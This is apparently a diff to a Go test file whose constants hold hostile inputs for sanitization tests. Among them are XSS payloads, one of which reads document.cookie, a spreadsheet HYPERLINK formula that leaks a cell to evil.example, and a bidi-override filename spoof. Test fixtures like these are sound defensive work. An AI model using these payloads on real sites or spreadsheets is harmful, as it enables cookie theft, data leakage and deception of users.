@@ -33,7 +33,7 @@ const commit = "0123456789abcdef0123456789abcdef01234567"
 const (
 	hostileName   = `<script>alert("name")</script>`
 	hostileOwner  = `"><img src=x onerror=alert(1)>@example.com`
-	hostileTeam   = `<b onmouseover=alert(2)>Red team</b>`
+	hostileTeam   = `<b onmouseover="alert(2)">Red \team</b>`
 	hostileSystem = `=HYPERLINK("https://evil.example/?leak="&A1,"open")`
 	hostileRun    = `javascript:alert(document.cookie)`
 	bidi          = "invoice\u202etxt.exe\u2066"
